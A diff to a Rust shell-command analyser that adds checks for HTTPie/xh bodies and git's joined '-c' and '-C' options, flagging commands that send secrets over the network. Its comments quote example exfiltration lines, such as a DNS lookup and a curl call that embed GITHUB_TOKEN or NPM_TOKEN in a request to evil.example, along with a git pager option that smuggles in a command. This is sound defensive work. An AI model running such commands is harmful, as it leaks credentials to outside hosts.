@@ -10,6 +10,8 @@
 mod checks;
 mod files;
 mod forms;
+mod httpie;
+mod openssl;
 mod ops;
 mod scripts;
 mod secrets;
@@ -225,6 +227,12 @@ fn run_program(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
         return run_program(sh, &named, stdin);
     }
     let name = program_name(first);
+    // `git -ccore.pager=CMD log`, `git -C/path status`: judged as `-c X`, `-C X`.
+    if name == "git"
+        && let Some(spaced) = super::devops::git_spaced(argv)
+    {
+        return run_program(sh, &spaced, stdin);
+    }
     let args = argv.get(1..).unwrap_or_default();
     let cmd = snippet_words(argv);
     let out = Input::output_of(name);
@@ -248,6 +256,10 @@ fn run_program(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
         && what.starts_with(super::args::SECRET_INPUT)
     {
         sh.add(Admin, format!("{cmd} sends {what} over the network"));
+    }
+    // `cat f | http host`, `http -f host doc@f`: HTTPie's and xh's bodies.
+    if matches!(name, "http" | "https" | "xh" | "xhs") {
+        httpie::sends(sh, args, stdin, &cmd);
     }
     // `nslookup %GITHUB_TOKEN%.evil.example`, `curl.exe "https://x/?k=$env:NPM_TOKEN"`.
     if super::args::NETWORK_SENDERS.contains(&name)
